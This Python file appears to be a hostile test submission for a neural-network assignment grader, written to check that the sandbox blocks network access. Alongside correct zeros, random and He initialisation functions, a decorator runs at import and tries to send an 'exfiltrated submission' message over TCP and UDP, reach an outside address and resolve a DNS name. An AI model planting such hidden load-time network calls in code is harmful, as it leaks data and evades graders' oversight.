"""Hostile: at import, tries the network: a TCP connection and a UDP datagram to a port a test listens on
(127.0.0.1:47913), an outside address, and a DNS lookup. Contained by the sandbox's network namespace, which
holds only its own loopback. What happened is printed; the functions are correct."""
import socket

import numpy as np

PORT = 47913
MESSAGE = b"nn-grader-hostile-network: exfiltrated submission"


def _try(label, action):
    try:
        action()
        print("%s: succeeded" % label)
    except OSError as error:
        print("%s: %s" % (label, type(error).__name__))


def _tcp(host, port):
    with socket.create_connection((host, port), timeout=0.5) as connection:
        connection.sendall(MESSAGE)


def _udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(MESSAGE, ("127.0.0.1", PORT))


# The grader runs only what the graded functions need: the attack runs in a decorator of one of them, so
# that it still happens while the submission is being loaded.
def _at_load(function):
    _try("tcp to the host's 127.0.0.1", lambda: _tcp("127.0.0.1", PORT))
    _try("udp to the host's 127.0.0.1", _udp)
    _try("tcp to an outside address", lambda: _tcp("10.255.255.1", 80))
    _try("dns lookup", lambda: socket.getaddrinfo("example.com", 443))
    return function


@_at_load
def initialize_parameters_zeros(layers_dims):
    parameters = {}
    L = len(layers_dims)
    for l in range(1, L):
        parameters['W' + str(l)] = np.zeros((layers_dims[l], layers_dims[l - 1]))
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_random(layers_dims):
    np.random.seed(3)
    parameters = {}
    L = len(layers_dims)
    for l in range(1, L):
        parameters['W' + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * 10
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_he(layers_dims):
    np.random.seed(3)
    parameters = {}
    L = len(layers_dims) - 1
    for l in range(1, L + 1):
        parameters['W' + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * np.sqrt(2 / layers_dims[l - 1])
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters
